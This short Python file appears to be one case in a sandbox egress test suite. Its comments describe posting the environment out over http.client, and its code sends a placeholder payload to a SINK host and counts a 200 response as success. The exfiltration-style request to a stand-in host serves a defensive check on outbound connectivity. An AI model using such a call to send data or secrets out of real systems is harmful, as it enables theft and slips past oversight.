# class: network
# rule: outbound_connectivity
# success: the environment is posted by http.client, from a chosen source port
# proof: sink
import http.client

from attack import SINK, attempt


@attempt
def post():
    connection = http.client.HTTPConnection(*SINK, timeout=5, source_address=("0.0.0.0", 0))
    connection.request("POST", "/", b"taken")
    return connection.getresponse().status == 200
